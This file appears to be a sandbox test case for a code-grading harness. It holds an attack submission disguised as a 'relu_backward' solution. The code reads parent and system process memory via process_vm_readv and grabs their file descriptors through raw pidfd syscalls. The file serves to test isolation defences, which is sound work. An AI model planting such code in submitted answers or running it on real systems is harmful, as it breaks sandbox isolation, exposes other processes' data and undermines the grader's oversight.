"""Reads the memory of its parent with process_vm_readv, and takes its descriptors with pidfd_getfd."""

from __future__ import annotations

from tests.attacks.attack import NO_MARKS, Attack

SOURCE = """
import ctypes, os
def relu_backward(Z, dA):
    libc = ctypes.CDLL(None, use_errno=True)
    room = ctypes.create_string_buffer(4096)
    class Vec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    mine = Vec(ctypes.addressof(room), 4096)
    found = []
    for number in {os.getppid(), 1, 2}:
        for base in (0x400000, 0x555555554000, id(np)):
            if libc.process_vm_readv(number, ctypes.byref(mine), 1, ctypes.byref(Vec(base, 4096)), 1, 0) > 0:
                found.append(room.raw[:64])
        handle = libc.syscall(434, number, 0)
        found += [fd for fd in range(3, 20) if handle >= 0 and libc.syscall(438, handle, fd, 0) >= 0]
    raise RuntimeError(f"found {found}")
"""
ATTACK = Attack(answers={"relu_backward": SOURCE}, no_stock=NO_MARKS)
